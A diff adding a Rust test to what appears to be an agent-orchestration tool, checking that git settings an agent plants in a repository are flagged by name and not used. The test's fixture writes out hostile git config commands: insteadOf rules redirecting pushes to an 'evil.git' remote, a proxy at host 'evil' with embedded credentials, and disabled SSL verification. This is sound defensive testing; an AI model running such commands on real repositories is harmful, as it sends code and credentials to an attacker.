@@ -99,3 +99,35 @@ fn a_program_that_an_agent_plants_in_the_repositorys_configuration_never_runs() 
     assert_eq!(unasked.code(), 2, "{unasked:#?}");
     assert!(unasked.stdout.contains("git's setting filter.evil.smudge"), "{unasked:#?}");
 }
+
+#[test]
+fn a_setting_that_leads_pushes_elsewhere_is_asked_about_by_its_name_and_not_used_before_that() {
+    let plant = "git config url.\"https://me:secret@$HUB/\".insteadOf \"$HUB/\"
+        git config url.\"$NOTES/evil.git\".insteadOf \"$HUB\"
+        git config http.proxy http://me:secret@evil; git config http.sslVerify false";
+    let world = FleetWorld::new("").tasks(&["a"], "verify = [\"false\"]\nmax-iterations = 1");
+    let hub = world.hub().display().to_string();
+    let agent = format!("{}\n{ONE}", plant.replace("$HUB", &hub));
+    let world = world.acts(&agent).shared().ready();
+    let evil = world.note("evil.git").display().to_string();
+    world.sandbox.git(&["init", "--quiet", "--bare", &evil]);
+    assert_eq!(world.run(&["--push"]).code(), 10);
+    let settings = world.sandbox.crew_home().join("fleets/repo/hub.git/settings");
+    let copied = || std::fs::read_to_string(&settings).unwrap();
+    assert_eq!(copied(), "");
+
+    let unasked = world.crew(&["fleet", "run", "tasks", "--retry"]);
+    assert_eq!(unasked.code(), 2, "{unasked:#?}");
+    for asked in [
+        format!("git's setting url.{evil}.insteadof ("),
+        format!("git's setting url.https://{hub}/.insteadof ("),
+        "git's setting http.proxy (".to_owned(),
+        "git's setting http.sslverify (".to_owned(),
+    ] {
+        assert!(unasked.stdout.contains(&asked), "{asked}\n{unasked:#?}");
+    }
+    assert!(!unasked.stdout.contains("secret"), "{unasked:#?}");
+    assert_eq!(copied(), "");
+    let there = world.sandbox.git(&["-C", &evil, "for-each-ref"]);
+    assert_eq!(there, "", "nothing has gone there");
+}
